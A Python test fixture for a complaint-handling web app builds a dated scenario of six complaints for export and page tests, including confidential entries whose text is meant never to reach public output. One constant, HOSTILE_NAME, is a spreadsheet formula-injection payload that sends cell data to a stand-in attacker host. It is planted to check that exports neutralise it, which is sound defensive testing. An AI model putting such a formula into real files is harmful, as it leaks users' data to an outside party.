"""The public figures' scenario (September-October 2025, past whatever day the tests run), shared by the export
tests and the page tests. No national holiday falls between 8 September and 31 October 2025.

  A  web       terbuka  received Mon 15 Sep; verified 16 Sep, answered 17 Sep (follow-up met), finished 18 Sep.
  B  kotak     terbuka  received Mon 29 Sep, open at October's start; verified 1 Oct, answered 2 Oct (met),
                        finished 6 Oct.
  C  lapor     rahasia  received Tue 7 Oct (SECRET_TITLE); verified 8 Oct, never answered: follow-up due 15 Oct,
                        missed on the 16th.
  D  whatsapp  anonim   received Mon 20 Oct, still open.
  E  web       terbuka  received Fri 10 Oct, rejected the same day before verification (no follow-up clock).
  F  web       terbuka  received Mon 3 Nov: after October.

October 2025 as of 31 October: carried 1 (B), received 3 (C, D, E), finished 2 (B, E), remaining 2, follow-ups
2 (B on time, C missed) = 50 %. Semester II 2025: received 6, finished 3 (A, B, E), follow-ups 3, on time 2.
A layanan whose name is a formula (HOSTILE_NAME) is in the catalogue: every layanan table lists it at zero.
"""

from __future__ import annotations

from datetime import date, datetime

from tests.factories import advance, make_pengaduan, make_user
from zi_public.extensions import db
from zi_public.localtime import JAKARTA
from zi_public.models import Layanan, Pengaduan, Role
from zi_public.rules.pengaduan import Action, Channel
from zi_public.services.reference import seed_reference_data

#: What a rahasia complaint says: nothing of it may reach a public page or file.
SECRET_TITLE = "Judul-rahasia-Q7X9-tidak-boleh-terbit"
SECRET_TEXT = "Uraian-rahasia-Z3K8: petugas loket meminta uang."
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
OCTOBER_END = date(2025, 10, 31)


def wib(month: int, day: int, hour: int = 10) -> datetime:
    return datetime(2025, month, day, hour, tzinfo=JAKARTA)


def file_scenario() -> dict[str, Pengaduan]:
    """The complaints above, committed (needs an app context)."""
    seed_reference_data()
    db.session.add(Layanan(code="jebakan", name=HOSTILE_NAME, name_en=HOSTILE_NAME, sort_order=999))
    team = make_user(role=Role.PENGADUAN)
    c: dict[str, Pengaduan] = {}
    a = c["A"] = make_pengaduan(now=wib(9, 15))
    advance(team, a, Action.VERIFY, wib(9, 16))
    advance(team, a, Action.ANSWER, wib(9, 17))
    advance(team, a, Action.FINISH, wib(9, 18))
    b = c["B"] = make_pengaduan(now=wib(9, 29), channel=Channel.BOX, category="biaya")
    advance(team, b, Action.VERIFY, wib(10, 1))
    advance(team, b, Action.ANSWER, wib(10, 2))
    advance(team, b, Action.FINISH, wib(10, 6))
    secret = {"title": SECRET_TITLE, "description": SECRET_TEXT, "requested_resolution": SECRET_TEXT}
    cc = c["C"] = make_pengaduan(now=wib(10, 7), channel=Channel.LAPOR, identity="rahasia", **secret)
    advance(team, cc, Action.VERIFY, wib(10, 8))
    c["D"] = make_pengaduan(now=wib(10, 20), channel=Channel.WHATSAPP, identity="anonim", layanan=None, **secret)
    e = c["E"] = make_pengaduan(now=wib(10, 10), category="prosedur")
    advance(team, e, Action.REJECT, wib(10, 10, 14))
    c["F"] = make_pengaduan(now=wib(11, 3))
    db.session.commit()
    return c
